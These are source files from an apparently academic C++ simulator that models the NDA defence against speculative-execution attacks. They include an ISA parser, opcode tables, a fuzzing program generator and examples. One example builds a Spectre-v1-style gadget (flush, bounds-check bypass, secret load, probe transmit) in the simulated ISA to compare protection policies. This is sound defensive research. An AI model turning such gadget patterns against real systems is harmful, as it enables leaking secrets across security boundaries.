                        static_cast<std::uint8_t>((hi << 4) | lo));
                }
                if (seg.bytes.size() > nbytes)
                    parseError(src.lineNo(), "segment payload overruns "
                                             "its declared size");
            }
            prog.data.push_back(std::move(seg));
        } else if (key == "code") {
            if (saw_code)
                parseError(src.lineNo(), "duplicate code section");
            saw_code = true;
            const std::uint64_t count = parseU64(rest(), src.lineNo());
            prog.code.reserve(count);
            for (std::uint64_t i = 0; i < count; ++i) {
                std::string insn;
                if (!src.next(insn))
                    parseError(src.lineNo(), "code section truncated");
                std::istringstream f(insn);
                std::string mnem, trd, trs1, trs2, timm, tsize, extra;
                if (!(f >> mnem >> trd >> trs1 >> trs2 >> timm >> tsize) ||
                    (f >> extra)) {
                    parseError(src.lineNo(),
                               "expected '<mnemonic> <rd> <rs1> <rs2> "
                               "<imm> <size>'");
                }
                const auto &table = mnemonicTable();
                const auto it = table.find(mnem);
                if (it == table.end())
                    parseError(src.lineNo(),
                               "unknown mnemonic '" + mnem + "'");
                MicroOp uop;
                uop.op = it->second;
                const std::uint64_t rd = parseU64(trd, src.lineNo());
                const std::uint64_t rs1 = parseU64(trs1, src.lineNo());
                const std::uint64_t rs2 = parseU64(trs2, src.lineNo());
                if (rd >= kNumArchRegs || rs1 >= kNumArchRegs ||
                    rs2 >= kNumArchRegs) {
                    parseError(src.lineNo(), "register out of range");
                }
                uop.rd = static_cast<RegId>(rd);
                uop.rs1 = static_cast<RegId>(rs1);
                uop.rs2 = static_cast<RegId>(rs2);
                uop.imm = parseI64(timm, src.lineNo());
                const std::uint64_t size = parseU64(tsize, src.lineNo());
                if (size != 1 && size != 2 && size != 4 && size != 8)
                    parseError(src.lineNo(), "bad access size");
                uop.size = static_cast<std::uint8_t>(size);
                prog.code.push_back(uop);
            }
        } else {
            parseError(src.lineNo(), "unknown directive '" + key + "'");
        }
    }

    if (!saw_code)
        throw std::runtime_error(
            "program parse error: no code section");
    if (prog.entry >= prog.code.size())
        throw std::runtime_error(
            "program parse error: entry PC out of range");
    return prog;
}

Program
loadProgramFile(const std::string &path)
{
    std::ifstream in(path);
    if (!in)
        throw std::runtime_error("cannot open program file " + path);
    std::ostringstream text;
    text << in.rdbuf();
    try {
        return parseProgram(text.str());
    } catch (const std::runtime_error &e) {
        throw std::runtime_error(path + ": " + e.what());
    }
}

void
saveProgramFile(const std::string &path, const Program &prog,
                const std::string &header)
{
    std::ofstream out(path);
    if (!out)
        throw std::runtime_error("cannot write program file " + path);
    if (!header.empty()) {
        std::istringstream lines(header);
        std::string line;
        while (std::getline(lines, line))
            out << "# " << line << "\n";
    }
    out << serializeProgram(prog);
    if (!out)
        throw std::runtime_error("write failed for " + path);
}

} // namespace nda
