/**
 * @file
 * Text serialization of Programs, so the fuzzer can persist failing
 * (minimized) inputs as corpus files that replay byte-identically in
 * a later build. The format is a line-oriented assembly listing:
 *
 *   # comment (stripped; the fuzzer records seed/failure here)
 *   program <name>
 *   entry <pc>
 *   faulthandler <pc>          (omitted = halt on fault)
 *   msrmask <mask>             (privileged-MSR bitmask, omitted = 0)
 *   initreg <r> <value>        (non-zero initial registers)
 *   initmsr <i> <value>
 *   segment <base> <user|kernel> <nbytes>
 *   <hex byte rows, 32 bytes each>
 *   code <count>
 *   <mnemonic> <rd> <rs1> <rs2> <imm> <size>   (one per instruction)
 *
 * All numbers are decimal except segment payload bytes (hex).
 * Parsing is strict: any malformed line throws std::runtime_error
 * naming the line, so a corrupted corpus file fails loudly instead of
 * replaying the wrong program.
 */

#ifndef NDASIM_ISA_PROGRAM_IO_HH
#define NDASIM_ISA_PROGRAM_IO_HH

#include <iosfwd>
#include <string>

#include "isa/program.hh"

namespace nda {

/** Render `prog` in the corpus text format. */
std::string serializeProgram(const Program &prog);

/** Parse a program from corpus text; throws std::runtime_error. */
Program parseProgram(const std::string &text);

/** Parse the corpus file at `path`; throws std::runtime_error. */
Program loadProgramFile(const std::string &path);

/**
 * Write `prog` to `path`, preceded by `header` rendered as '#'
 * comment lines; throws std::runtime_error on I/O failure.
 */
void saveProgramFile(const std::string &path, const Program &prog,
                     const std::string &header = {});

} // namespace nda

#endif // NDASIM_ISA_PROGRAM_IO_HH
