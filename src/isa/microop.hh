/**
 * @file
 * The static micro-op: one decoded instruction of the simulated ISA.
 */

#ifndef NDASIM_ISA_MICROOP_HH
#define NDASIM_ISA_MICROOP_HH

#include <cstdint>
#include <string>

#include "common/types.hh"
#include "isa/opcode.hh"

namespace nda {

/**
 * A decoded static instruction. PCs are instruction indices into the
 * owning Program; `imm` doubles as branch target, memory displacement,
 * MSR index, or literal depending on the opcode.
 */
struct MicroOp {
    Opcode op = Opcode::kNop;
    RegId rd = 0;
    RegId rs1 = 0;
    RegId rs2 = 0;
    std::int64_t imm = 0;
    std::uint8_t size = 8;   ///< memory access size in bytes (1/2/4/8)

    const OpTraits &traits() const { return opTraits(op); }

    bool isLoad() const { return traits().isLoad; }
    bool isStore() const { return traits().isStore; }
    bool isLoadLike() const { return traits().isLoadLike; }
    bool isBranch() const { return traits().isBranch; }
    bool isMemory() const { return isLoad() || isStore(); }

    /**
     * True for branches whose outcome is predicted and can therefore
     * mispredict (conditional and indirect ones). NDA treats only
     * these as "unresolved branch" boundaries; direct unconditional
     * jumps have a decode-time-known target (paper §5.1).
     */
    bool isSpeculativeBranch() const { return traits().isSpeculable; }

    /** Render a human-readable disassembly string. */
    std::string disasm() const;
};

} // namespace nda

#endif // NDASIM_ISA_MICROOP_HH
