#include "isa/opcode.hh"

#include "common/log.hh"

namespace nda {

namespace {

using LC = LatencyClass;

constexpr OpTraits
alu2(std::string_view name, LC lat = LC::kSingleCycle)
{
    return {name, true, true, true, false, false, false,
            false, false, false, false, false, false, false, lat};
}

constexpr OpTraits
alu1(std::string_view name, LC lat = LC::kSingleCycle)
{
    return {name, true, true, false, false, false, false,
            false, false, false, false, false, false, false, lat};
}

constexpr OpTraits
condBranch(std::string_view name)
{
    return {name, false, true, true, false, false, false,
            true, true, false, false, false, true, false,
            LC::kSingleCycle};
}

// Table indexed by Opcode. Field order matches OpTraits.
constexpr OpTraits kTraits[] = {
    // mnemonic  dest  rs1   rs2   load  store ldlike br   cond  ind
    //           call  ret   spec  serHd latency
    {"nop",      false, false, false, false, false, false,
     false, false, false, false, false, false, false, LC::kSingleCycle},
    {"halt",     false, false, false, false, false, false,
     false, false, false, false, false, false, false, LC::kSingleCycle},
    {"movi",     true,  false, false, false, false, false,
     false, false, false, false, false, false, false, LC::kSingleCycle},
    alu1("mov"),
    alu2("add"),
    alu2("sub"),
    alu2("and"),
    alu2("or"),
    alu2("xor"),
    alu2("shl"),
    alu2("shr"),
    alu2("mul", LC::kMul),
    alu2("div", LC::kDiv),
    alu1("addi"),
    alu1("subi"),
    alu1("andi"),
    alu1("ori"),
    alu1("xori"),
    alu1("shli"),
    alu1("shri"),
    alu1("muli", LC::kMul),
    alu2("cmpeq"),
    alu2("cmplt"),
    alu2("cmpltu"),
    // load: rd = mem[rs1+imm]
    {"ld",       true,  true,  false, true,  false, true,
     false, false, false, false, false, false, false, LC::kMemory},
    // store: mem[rs1+imm] = rs2
    {"st",       false, true,  true,  false, true,  false,
     false, false, false, false, false, false, false, LC::kMemory},
    {"clflush",  false, true,  false, false, false, false,
     false, false, false, false, false, false, false, LC::kSingleCycle},
    {"prefetch", false, true,  false, false, false, false,
     false, false, false, false, false, false, false, LC::kSingleCycle},
    // rdmsr: rd = msr[imm]; load-like
    {"rdmsr",    true,  false, false, false, false, true,
     false, false, false, false, false, false, false, LC::kSingleCycle},
    {"wrmsr",    false, true,  false, false, false, false,
     false, false, false, false, false, false, true,  LC::kSingleCycle},
    {"rdtsc",    true,  false, false, false, false, false,
     false, false, false, false, false, false, true,  LC::kSingleCycle},
    {"fence",    false, false, false, false, false, false,
     false, false, false, false, false, false, true,  LC::kSingleCycle},
    {"specoff",  false, false, false, false, false, false,
     false, false, false, false, false, false, true,  LC::kSingleCycle},
    {"specon",   false, false, false, false, false, false,
     false, false, false, false, false, false, true,  LC::kSingleCycle},
    // jmp imm: direct, never mispredicts (target known at decode)
    {"jmp",      false, false, false, false, false, false,
     true,  false, false, false, false, false, false, LC::kSingleCycle},
    // call imm: rd = return pc
    {"call",     true,  false, false, false, false, false,
     true,  false, false, true,  false, false, false, LC::kSingleCycle},
    condBranch("beq"),
    condBranch("bne"),
    condBranch("blt"),
    condBranch("bge"),
    condBranch("bltu"),
    condBranch("bgeu"),
    // jmpr rs1: indirect, BTB-predicted
    {"jmpr",     false, true,  false, false, false, false,
     true,  false, true,  false, false, true,  false, LC::kSingleCycle},
    // callr rd, rs1
    {"callr",    true,  true,  false, false, false, false,
     true,  false, true,  true,  false, true,  false, LC::kSingleCycle},
    // ret rs1: indirect, RAS-predicted
    {"ret",      false, true,  false, false, false, false,
     true,  false, true,  false, true,  true,  false, LC::kSingleCycle},
};

static_assert(sizeof(kTraits) / sizeof(kTraits[0]) ==
                  static_cast<std::size_t>(Opcode::kNumOpcodes),
              "traits table out of sync with Opcode enum");

} // namespace

const OpTraits &
opTraits(Opcode op)
{
    const auto idx = static_cast<std::size_t>(op);
    NDA_ASSERT(idx < static_cast<std::size_t>(Opcode::kNumOpcodes),
               "opcode %zu out of range", idx);
    return kTraits[idx];
}

std::string_view
opName(Opcode op)
{
    return opTraits(op).mnemonic;
}

unsigned
opLatencyCycles(Opcode op)
{
    switch (opTraits(op).latency) {
      case LatencyClass::kSingleCycle:
        return 1;
      case LatencyClass::kMul:
        return 3;
      case LatencyClass::kDiv:
        return 12;
      case LatencyClass::kMemory:
        return 1; // placeholder; real latency comes from the hierarchy
    }
    return 1;
}

} // namespace nda
