#include "isa/random_program.hh"

#include <vector>

#include "common/xrandom.hh"

namespace nda {

namespace {

/** Registers freely clobbered by random ops. */
constexpr RegId kDataRegLo = 0;
constexpr RegId kDataRegHi = 15;
/** Base register pointing at the data segment. */
constexpr RegId kMemBase = 16;
/** Scratch for address computation. */
constexpr RegId kAddrReg = 17;
/** Loop counter / limit (never clobbered by random ops). */
constexpr RegId kLoopCtr = 20;
constexpr RegId kLoopLim = 21;
/** Link register for calls. */
constexpr RegId kLink = 28;
/** Scratch holding indirect-call targets. */
constexpr RegId kFnPtr = 27;
/** Link registers of the nested call chain, one per level. Registers
 *  22-25 are never touched by random ops and never spilled, so a
 *  chain of depth <= 4 always returns correctly. */
constexpr RegId kChainLinkBase = 22;
constexpr unsigned kMaxChainDepth = 4;

RegId
chainLink(unsigned level)
{
    return static_cast<RegId>(kChainLinkBase + level % kMaxChainDepth);
}

RegId
dataReg(XRandom &rng)
{
    return static_cast<RegId>(
        kDataRegLo + rng.below(kDataRegHi - kDataRegLo + 1));
}

void
emitRandomAlu(ProgramBuilder &b, XRandom &rng)
{
    const RegId rd = dataReg(rng);
    const RegId rs1 = dataReg(rng);
    const RegId rs2 = dataReg(rng);
    const auto imm = static_cast<std::int64_t>(rng.next() & 0xFFFF);
    switch (rng.below(17)) {
      case 0: b.add(rd, rs1, rs2); break;
      case 1: b.sub(rd, rs1, rs2); break;
      case 2: b.and_(rd, rs1, rs2); break;
      case 3: b.or_(rd, rs1, rs2); break;
      case 4: b.xor_(rd, rs1, rs2); break;
      case 5: b.shl(rd, rs1, rs2); break;
      case 6: b.shr(rd, rs1, rs2); break;
      case 7: b.mul(rd, rs1, rs2); break;
      case 8: b.div(rd, rs1, rs2); break;
      case 9: b.addi(rd, rs1, imm); break;
      case 10: b.xori(rd, rs1, imm); break;
      case 11: b.muli(rd, rs1, imm | 1); break;
      case 12: b.cmpeq(rd, rs1, rs2); break;
      case 13: b.cmplt(rd, rs1, rs2); break;
      case 14: b.cmpltu(rd, rs1, rs2); break;
      case 15: b.movi(rd, static_cast<std::int64_t>(rng.next())); break;
      default: b.mov(rd, rs1); break;
    }
}

void
emitAddrCompute(ProgramBuilder &b, XRandom &rng)
{
    // kAddrReg = kMemBase + (reg & mask), always inside the segment.
    const RegId idx = dataReg(rng);
    b.andi(kAddrReg, idx, kRandomProgDataBytes - 16);
    b.add(kAddrReg, kMemBase, kAddrReg);
}

void
emitRandomMem(ProgramBuilder &b, XRandom &rng)
{
    static constexpr std::uint8_t kSizes[] = {1, 2, 4, 8};
    const std::uint8_t size = kSizes[rng.below(4)];
    const auto disp = static_cast<std::int64_t>(rng.below(8));
    emitAddrCompute(b, rng);
    if (rng.chance(1, 2)) {
        b.load(dataReg(rng), kAddrReg, disp, size);
    } else {
        b.store(kAddrReg, disp, dataReg(rng), size);
    }
}

/** Emit one of the enabled "extra" ops (fence / clflush / rdtsc).
 *  Only called when at least one extra is enabled, so the baseline
 *  RNG stream is untouched by default. */
void
emitRandomExtra(ProgramBuilder &b, XRandom &rng,
                const RandomProgramParams &params)
{
    std::uint8_t extras[3];
    unsigned n = 0;
    if (params.useFences)
        extras[n++] = 0;
    if (params.useClflush)
        extras[n++] = 1;
    if (params.useRdtsc)
        extras[n++] = 2;
    switch (extras[rng.below(n)]) {
      case 0:
        b.fence();
        break;
      case 1:
        emitAddrCompute(b, rng);
        b.clflush(kAddrReg, 0);
        break;
      default: {
        // Neutralize the timing-dependent value before it can reach
        // state compared across models: rd = (rd == rd) = 1.
        const RegId rd = dataReg(rng);
        b.rdtsc(rd);
        b.cmpeq(rd, rd, rd);
        break;
      }
    }
}

void
emitRandomBranch(ProgramBuilder &b, XRandom &rng,
                 ProgramBuilder::Label target)
{
    const RegId a = dataReg(rng);
    const RegId c = dataReg(rng);
    switch (rng.below(4)) {
      case 0: b.beq(a, c, target); break;
      case 1: b.bne(a, c, target); break;
      case 2: b.bltu(a, c, target); break;
      default: b.bge(a, c, target); break;
    }
}

} // namespace

Program
generateRandomProgram(std::uint64_t seed,
                      const RandomProgramParams &params)
{
    XRandom rng(seed ^ 0xA5A5A5A5ULL);
    ProgramBuilder b("random-" + std::to_string(seed));

    // Data segment with random contents.
    std::vector<std::uint8_t> data(kRandomProgDataBytes);
    for (auto &byte : data)
        byte = static_cast<std::uint8_t>(rng.next());
    b.segment(kRandomProgDataBase, std::move(data));
    b.zeroSegment(kRandomProgResultBase, 32 * 8);

    // Random initial register contents.
    for (RegId r = kDataRegLo; r <= kDataRegHi; ++r)
        b.initReg(r, rng.next());
    b.initReg(kMemBase, kRandomProgDataBase);

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- leaf functions -------------------------------------------------
    std::vector<Addr> fn_pcs;
    for (unsigned f = 0; f < params.functions; ++f) {
        fn_pcs.push_back(b.here());
        const unsigned n = 2 + static_cast<unsigned>(rng.below(4));
        for (unsigned i = 0; i < n; ++i)
            emitRandomAlu(b, rng);
        b.ret(kLink);
    }

    // --- nested direct-call chain (RAS-heavy) ---------------------------
    // chain[0] calls chain[1] calls ... ; every level returns through
    // its own link register, so a single invocation pushes and pops
    // `depth` return-address-stack entries.
    const unsigned chain_depth =
        params.callChainDepth > kMaxChainDepth ? kMaxChainDepth
                                               : params.callChainDepth;
    auto chain_entry = b.futureLabel();
    if (chain_depth > 0) {
        std::vector<ProgramBuilder::Label> level(chain_depth);
        for (auto &l : level)
            l = b.futureLabel();
        for (unsigned d = 0; d < chain_depth; ++d) {
            if (d == 0)
                b.bind(chain_entry);
            b.bind(level[d]);
            const unsigned n = 1 + static_cast<unsigned>(rng.below(3));
            for (unsigned i = 0; i < n; ++i)
                emitRandomAlu(b, rng);
            if (d + 1 < chain_depth) {
                b.call(chainLink(d + 1), level[d + 1]);
                emitRandomAlu(b, rng); // post-return work
            }
            b.ret(chainLink(d));
        }
    }

    // Function-pointer table for indirect calls.
    std::vector<std::uint8_t> table;
    for (Addr pc : fn_pcs) {
        for (int j = 0; j < 8; ++j)
            table.push_back(static_cast<std::uint8_t>(pc >> (8 * j)));
    }
    const Addr table_base = kRandomProgDataBase + kRandomProgDataBytes;
    b.segment(table_base, std::move(table));

    // --- main body --------------------------------------------------------
    b.bind(main_l);
    for (unsigned blk = 0; blk < params.blocks; ++blk) {
        auto block_end = b.futureLabel();

        // Optionally open a counted loop for this block.
        const bool looped = rng.chance(1, 3);
        ProgramBuilder::Label loop_top;
        if (looped) {
            b.movi(kLoopCtr, 0);
            b.movi(kLoopLim,
                   static_cast<std::int64_t>(
                       1 + rng.below(params.loopIterations)));
            loop_top = b.label();
        }

        for (unsigned op = 0; op < params.opsPerBlock; ++op) {
            const auto kind = rng.below(10);
            if (kind < 5) {
                emitRandomAlu(b, rng);
            } else if (kind < 8 && params.useMemory) {
                emitRandomMem(b, rng);
            } else if (kind == 8) {
                emitRandomBranch(b, rng, block_end);
            } else if (!fn_pcs.empty()) {
                if (chain_depth > 0 && rng.chance(1, 3)) {
                    b.call(chainLink(0), chain_entry);
                } else if (params.useIndirectCalls && rng.chance(1, 2)) {
                    const auto idx = rng.below(fn_pcs.size());
                    b.movi(kFnPtr,
                           static_cast<std::int64_t>(
                               table_base + idx * 8));
                    b.load(kFnPtr, kFnPtr, 0, 8);
                    b.callr(kLink, kFnPtr);
                } else {
                    b.movi(kFnPtr,
                           static_cast<std::int64_t>(
                               fn_pcs[rng.below(fn_pcs.size())]));
                    b.callr(kLink, kFnPtr);
                }
            } else {
                emitRandomAlu(b, rng);
            }
            if ((params.useFences || params.useClflush ||
                 params.useRdtsc) &&
                rng.chance(1, 4)) {
                emitRandomExtra(b, rng, params);
            }
        }

        if (looped) {
            b.addi(kLoopCtr, kLoopCtr, 1);
            b.bltu(kLoopCtr, kLoopLim, loop_top);
        }
        b.bind(block_end);
    }

    // --- epilogue: spill registers for state comparison -----------------
    for (RegId r = kDataRegLo; r <= kAddrReg; ++r) {
        b.movi(kLoopCtr,
               static_cast<std::int64_t>(kRandomProgResultBase + r * 8));
        b.store(kLoopCtr, 0, r, 8);
    }
    b.halt();
    return b.build();
}

} // namespace nda
