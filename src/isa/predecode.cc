#include "isa/predecode.hh"

#include "isa/program.hh"

namespace nda {

// The run loop's dispatch table is written in opcode order; this trips
// whenever the ISA grows so the table gets re-audited.
static_assert(static_cast<int>(Opcode::kNumOpcodes) == 45,
              "ISA changed: update the threaded-dispatch table in "
              "interpreter.cc and this assert");

PredecodedProgram::PredecodedProgram(const Program &prog)
{
    const std::size_t n = prog.code.size();
    size_ = n;
    ops_.resize(n + 1);

    for (std::size_t pc = 0; pc < n; ++pc) {
        const MicroOp &uop = prog.code[pc];
        PredecodedOp &op = ops_[pc];
        op.handler = static_cast<std::uint8_t>(uop.op);
        op.rd = uop.rd;
        op.rs1 = uop.rs1;
        op.rs2 = uop.rs2;
        op.size = uop.size;
        op.uimm = static_cast<RegVal>(uop.imm);
        op.fetchAddr = pcToFetchAddr(static_cast<Addr>(pc));
        op.fetchLine = op.fetchAddr / kLineSize;

        const OpTraits &t = uop.traits();
        if (t.isBranch && !t.isIndirect) {
            // Same cast as evalNextPc: a negative imm becomes a huge
            // Addr, which clamps to the sentinel like any other
            // out-of-program target.
            const Addr target = static_cast<Addr>(uop.imm);
            op.targetIdx = static_cast<std::uint32_t>(
                target < n ? target : n);
        }
    }

    ops_[n].handler = kOutOfRangeHandler;

    faultPc_ = prog.faultHandler;
    hasFaultHandler_ = prog.faultHandler != ~Addr{0};
    // A handler pc outside the program keeps the legacy lazy-halt
    // semantics: redirect lands on the sentinel, which halts on the
    // *next* dispatched step, pc preserved.
    faultIdx_ = static_cast<std::uint32_t>(
        hasFaultHandler_ && faultPc_ < n ? faultPc_ : n);
}

} // namespace nda
