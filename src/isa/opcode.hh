/**
 * @file
 * Micro-op opcodes of the simulated RISC-like ISA and their static
 * traits (operand usage, latency class, branch/memory behaviour).
 *
 * The ISA is deliberately close to the micro-op level the NDA paper
 * reasons about: loads/stores, ALU ops, direct/indirect control flow,
 * and "load-like" special-register reads (RDMSR) that NDA treats like
 * loads (paper §5.2/§5.3).
 */

#ifndef NDASIM_ISA_OPCODE_HH
#define NDASIM_ISA_OPCODE_HH

#include <cstdint>
#include <string_view>

namespace nda {

enum class Opcode : std::uint8_t {
    kNop = 0,
    kHalt,

    // Immediate / move
    kMovImm,     ///< rd = imm
    kMov,        ///< rd = rs1

    // Register-register ALU
    kAdd,        ///< rd = rs1 + rs2
    kSub,        ///< rd = rs1 - rs2
    kAnd,        ///< rd = rs1 & rs2
    kOr,         ///< rd = rs1 | rs2
    kXor,        ///< rd = rs1 ^ rs2
    kShl,        ///< rd = rs1 << (rs2 & 63)
    kShr,        ///< rd = rs1 >> (rs2 & 63)
    kMul,        ///< rd = rs1 * rs2 (3-cycle)
    kDiv,        ///< rd = rs1 / rs2, 0 if rs2 == 0 (12-cycle)

    // Register-immediate ALU
    kAddImm,     ///< rd = rs1 + imm
    kSubImm,     ///< rd = rs1 - imm
    kAndImm,     ///< rd = rs1 & imm
    kOrImm,      ///< rd = rs1 | imm
    kXorImm,     ///< rd = rs1 ^ imm
    kShlImm,     ///< rd = rs1 << (imm & 63)
    kShrImm,     ///< rd = rs1 >> (imm & 63)
    kMulImm,     ///< rd = rs1 * imm (3-cycle)

    // Comparisons producing 0/1
    kCmpEq,      ///< rd = (rs1 == rs2)
    kCmpLt,      ///< rd = (signed rs1 < signed rs2)
    kCmpLtu,     ///< rd = (rs1 < rs2)

    // Memory
    kLoad,       ///< rd = mem[rs1 + imm] (size bytes, zero-extended)
    kStore,      ///< mem[rs1 + imm] = rs2 (size bytes)
    kClflush,    ///< flush cache line containing rs1 + imm
    kPrefetch,   ///< warm line containing rs1 + imm (no dest)

    // Special registers / timing
    kRdMsr,      ///< rd = msr[imm]; load-like for NDA; may fault
    kWrMsr,      ///< msr[imm] = rs1 (privileged in user mode)
    kRdTsc,      ///< rd = current cycle; serializes at ROB head
    kFence,      ///< full barrier; younger ops issue after it retires
    kSpecOff,    ///< disable control speculation (paper SS8, Listing 4)
    kSpecOn,     ///< re-enable control speculation

    // Direct control flow (target = imm, an instruction index)
    kJmp,        ///< unconditional direct jump
    kCall,       ///< rd = return pc; jump imm; pushes RAS
    kBeq,        ///< if (rs1 == rs2) jump imm
    kBne,        ///< if (rs1 != rs2) jump imm
    kBlt,        ///< if (signed rs1 < signed rs2) jump imm
    kBge,        ///< if (signed rs1 >= signed rs2) jump imm
    kBltu,       ///< if (rs1 < rs2) jump imm
    kBgeu,       ///< if (rs1 >= rs2) jump imm

    // Indirect control flow (target = rs1), predicted via BTB / RAS
    kJmpReg,     ///< jump to rs1
    kCallReg,    ///< rd = return pc; jump to rs1; pushes RAS
    kRet,        ///< jump to rs1; predicted by RAS pop

    kNumOpcodes,
};

/** Functional-unit latency class of an opcode. */
enum class LatencyClass : std::uint8_t {
    kSingleCycle,  ///< 1-cycle ALU / control
    kMul,          ///< 3 cycles
    kDiv,          ///< 12 cycles
    kMemory,       ///< latency from the cache hierarchy
};

/** Static operand/behaviour traits of an opcode. */
struct OpTraits {
    std::string_view mnemonic;
    bool hasDest;        ///< writes an integer register
    bool readsRs1;
    bool readsRs2;
    bool isLoad;         ///< reads data memory
    bool isStore;        ///< writes data memory
    bool isLoadLike;     ///< treated like a load by NDA (loads + RDMSR)
    bool isBranch;       ///< any control transfer
    bool isCondBranch;   ///< direction-predicted conditional branch
    bool isIndirect;     ///< target comes from a register
    bool isCall;
    bool isReturn;
    bool isSpeculable;   ///< branch whose outcome is predicted (can
                         ///< mispredict): conditional or indirect
    bool serializeAtHead; ///< may only issue at the ROB head
    LatencyClass latency;
};

/** Look up the static traits of an opcode. */
const OpTraits &opTraits(Opcode op);

/** Short mnemonic for an opcode. */
std::string_view opName(Opcode op);

/** Execution latency in cycles for non-memory ops. */
unsigned opLatencyCycles(Opcode op);

} // namespace nda

#endif // NDASIM_ISA_OPCODE_HH
