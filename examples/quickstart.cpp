/**
 * @file
 * Quickstart: build a tiny program with the assembler API, run it on
 * an insecure OoO core and on NDA full protection, and read out the
 * architectural result and timing statistics.
 *
 * Build & run:
 *   cmake -B build -G Ninja && cmake --build build
 *   ./build/examples/quickstart
 */

#include <cstdio>

#include "core/core_factory.hh"
#include "harness/profiles.hh"
#include "isa/program.hh"

using namespace nda;

int
main()
{
    // -- 1. Write a program with the assembler-style builder. -----------
    // It sums a small array through a data-dependent branch (the
    // pattern NDA's propagation policies restrict).
    ProgramBuilder b("quickstart");
    b.zeroSegment(0x1000, 256 * 8);
    for (int i = 0; i < 256; ++i)
        b.word(0x1000 + i * 8, static_cast<std::uint64_t>(i * 37 % 256));

    b.movi(1, 0x1000);               // base
    b.movi(2, 0);                    // sum
    b.movi(18, 0);                   // i
    b.movi(19, 256);
    auto loop = b.label();
    b.shli(3, 18, 3);
    b.add(4, 1, 3);
    b.load(5, 4, 0, 8);              // a[i]
    b.movi(6, 128);
    auto skip = b.futureLabel();
    b.bgeu(5, 6, skip);              // data-dependent branch
    b.add(2, 2, 5);                  // sum += a[i] if a[i] < 128
    b.bind(skip);
    b.addi(18, 18, 1);
    b.blt(18, 19, loop);
    b.halt();
    const Program prog = b.build();

    // -- 2. Run it on two machine models. --------------------------------
    for (Profile p : {Profile::kOoo, Profile::kFullProtection}) {
        const SimConfig cfg = makeProfile(p);
        auto core = makeCore(prog, cfg);
        core->run(~std::uint64_t{0}, 1'000'000);

        const PerfCounters &c = core->counters();
        std::printf("%-18s sum=%llu  cycles=%llu  insts=%llu  "
                    "CPI=%.2f  mispredicts=%llu\n",
                    cfg.name.c_str(),
                    static_cast<unsigned long long>(core->archReg(2)),
                    static_cast<unsigned long long>(core->cycle()),
                    static_cast<unsigned long long>(
                        core->committedInsts()),
                    c.cpi(),
                    static_cast<unsigned long long>(
                        c.condMispredicts));
    }

    std::printf("\nBoth models compute the same sum — NDA changes "
                "only timing.\n");
    return 0;
}
