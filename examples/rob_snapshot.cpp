/**
 * @file
 * Regenerates paper Figure 6: an ROB snapshot while a Spectre-v1-like
 * sequence executes under each NDA data-propagation policy. For every
 * in-flight instruction the snapshot shows the paper's state letters:
 *
 *     .  dispatched, sources not ready
 *     x  issued / executing
 *     c  completed but NOT broadcast (unsafe - dependants blocked)
 *     b  completed and broadcast (safe)
 *
 * The bounds branch is unresolved at snapshot time, so under strict
 * propagation everything after it is unsafe ('c' at best), while
 * permissive propagation lets non-load micro-ops broadcast ('b').
 */

#include <cstdio>
#include <map>
#include <string>
#include <vector>

#include "core/ooo_core.hh"
#include "harness/profiles.hh"
#include "isa/program.hh"

using namespace nda;

namespace {

/** A condensed Listing-1-style victim sequence. */
Program
victimSnippet()
{
    ProgramBuilder b("fig6");
    b.word(0x1000, 16);              // array_size (flushed -> slow)
    b.zeroSegment(0x2000, 64);       // array
    b.zeroSegment(0x8000, 256 * 512);

    b.movi(12, 3);                   // x (attacker argument)
    b.movi(1, 0x1000);
    b.clflush(1, 0);
    b.fence();
    const Addr first_shown = b.here();
    b.load(2, 1, 0, 8);              // load array_size
    auto vend = b.futureLabel();
    b.bgeu(12, 2, vend);             // if (x < array_size) ...
    b.movi(3, 0x2000);
    b.add(3, 3, 12);
    b.load(4, 3, 0, 1);              // secret = array[x]
    b.shli(5, 4, 9);                 // s = s * 512 (preprocess)
    b.movi(6, 0x8000);
    b.add(6, 6, 5);                  // &probe[s]
    b.load(7, 6, 0, 1);              // transmit
    b.bind(vend);
    b.halt();
    (void)first_shown;
    return b.build();
}

char
stateLetter(const DynInst &inst)
{
    if (inst.executed)
        return inst.broadcasted ? 'b' : 'c';
    if (inst.issued)
        return 'x';
    return '.';
}

} // namespace

int
main()
{
    const Program prog = victimSnippet();
    const std::vector<Profile> policies = {
        Profile::kStrict,
        Profile::kPermissive,
        Profile::kRestrictedLoads,
        Profile::kFullProtection,
    };

    // Collect the snapshot per policy at the same logical moment: the
    // cycle just before the bounds branch resolves.
    std::map<Addr, std::string> rows;
    std::vector<std::string> disasm_by_pc(prog.code.size());
    for (Addr pc = 0; pc < prog.code.size(); ++pc)
        disasm_by_pc[pc] = prog.at(pc).disasm();

    for (std::size_t pol_idx = 0; pol_idx < policies.size();
         ++pol_idx) {
        OooCore core(prog, makeProfile(policies[pol_idx]));
        // Snapshot 60 cycles into the bounds branch's unresolved
        // window, when the wrong path has had time to execute.
        Cycle snapshot_at = 0;
        Cycle pending_since = 0;
        while (!core.halted() && core.cycle() < 100000) {
            core.tick();
            bool branch_pending = false;
            for (const auto &inst : core.rob()) {
                if (inst->uop.op == Opcode::kBgeu && !inst->executed)
                    branch_pending = true;
            }
            if (!branch_pending)
                pending_since = 0;
            else if (pending_since == 0)
                pending_since = core.cycle();
            if (branch_pending &&
                core.cycle() - pending_since >= 60) {
                snapshot_at = core.cycle();
                for (const auto &inst : core.rob()) {
                    auto &row = rows[inst->pc];
                    row.resize(policies.size(), ' ');
                }
                for (const auto &inst : core.rob()) {
                    auto &row = rows[inst->pc];
                    row.resize(policies.size(), ' ');
                    row[pol_idx] = stateLetter(*inst);
                }
                break;
            }
        }
        (void)snapshot_at;
    }

    std::printf("=== Figure 6: ROB snapshot during Spectre v1, by NDA "
                "policy ===\n\n");
    std::printf("legend: . = not ready, x = executing, c = completed "
                "(unsafe, no\nbroadcast), b = completed & broadcast "
                "(safe); blank = not in ROB\n\n");
    std::printf("%-4s %-28s %-8s %-12s %-12s %-6s\n", "pc",
                "instruction", "strict", "permissive", "loadrestr",
                "full");
    for (const auto &[pc, states] : rows) {
        std::printf("%-4llu %-28s", static_cast<unsigned long long>(pc),
                    disasm_by_pc[static_cast<std::size_t>(pc)].c_str());
        for (std::size_t i = 0; i < policies.size(); ++i) {
            std::printf(" %-*c",
                        i == 0 ? 8 : (i == 3 ? 6 : 12),
                        i < states.size() ? states[i] : ' ');
        }
        std::printf("\n");
    }
    std::printf(
        "\nReading the snapshot (cf. paper Fig 6):\n"
        " * under STRICT, every op after the unresolved bounds branch\n"
        "   is unsafe: completed ops show 'c' and their dependants "
        "stay '.'\n"
